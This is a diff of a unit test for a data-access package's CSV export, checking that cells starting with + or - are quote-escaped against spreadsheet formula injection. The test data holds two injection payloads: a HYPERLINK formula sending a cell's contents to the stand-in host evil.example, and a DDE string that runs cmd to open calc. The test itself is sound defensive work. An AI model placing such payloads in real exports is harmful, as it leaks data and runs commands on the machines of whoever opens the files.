@@ -230,6 +230,21 @@ describe('access package', () => {
     expect(evilCsv).toContain(',+44 20,');
   });
 
+  // Excel runs a cell typed as +… or -… as a formula too: a number in front does not make it data.
+  it('a value that starts with + or - is opened with a quote mark unless it is a number or a phone number', () => {
+    const leak = '-1+HYPERLINK("http://evil.example/?"&B2,"Open")';
+    const dde = "+1-cmd|' /C calc'!A0";
+    const pkg = buildAccessPackage({
+      ...input,
+      sources: [{ ...concierge, records: [{ ...concierge.records[0]!, data: { notes: leak, memo: dde, phone: '+44 20 7946 0958', balance: '-12.50' } }] }],
+    });
+    const csv = files(pkg.bytes)['sources/01-concierge.csv']!;
+    expect(csv).toContain(`,"'-1+HYPERLINK(""http://evil.example/?""&B2,""Open"")",`);
+    expect(csv).toContain(`,'+1-cmd|' /C calc'!A0,`);
+    expect(csv).toContain(',+44 20 7946 0958,');
+    expect(csv).toContain(',-12.50,');
+  });
+
   it('R12: the package lists per source its record types and categories, and every special category it holds in clear', () => {
     const complete = buildAccessPackage({ ...input, canSeeSpecialCategories: true });
     expect(complete.specialCategories).toEqual([DataCategory.HEALTH]);
